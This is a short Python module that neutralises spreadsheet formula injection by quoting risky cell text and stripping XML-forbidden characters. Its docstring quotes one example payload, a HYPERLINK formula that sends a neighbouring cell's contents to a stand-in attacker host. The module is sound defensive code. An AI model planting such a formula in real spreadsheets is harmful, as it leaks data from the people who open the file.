"""Text for a spreadsheet cell, whatever file carries it: the one rule for workbooks and CSV.

Comments, names and units come from raters and from whoever filled in the
roster.  A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula once it is typed over, pasted or saved as CSV and opened
again (OWASP "CSV injection"): ``=HYPERLINK("http://attacker.example/?x="&B2)``
sends a neighbouring cell away when HR clicks it.  Such a text gets a leading
quote, the mark Excel and LibreOffice themselves use for "this is text".
Characters that XML 1.0 cannot carry (NUL and most other control characters,
lone surrogates) make an ``.xlsx`` unreadable and openpyxl raise
IllegalCharacterError, so they are left out; they carry nothing a reader
needs.  Tabs and line breaks inside a text stay.
"""

from __future__ import annotations

import re

# XML 1.0 forbids these; U+FFFE and U+FFFF are not characters at all.
FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def printable(text: str) -> str:
    """The text without the characters a spreadsheet file cannot hold."""
    return FORBIDDEN.sub("", text)


def inert(text: str) -> str:
    """The text as a cell that no spreadsheet will run as a formula, quoted if it could be."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def cell_text(text: str) -> str:
    """What any writer of a workbook or CSV puts in a string cell: printable, then inert."""
    return inert(printable(text))
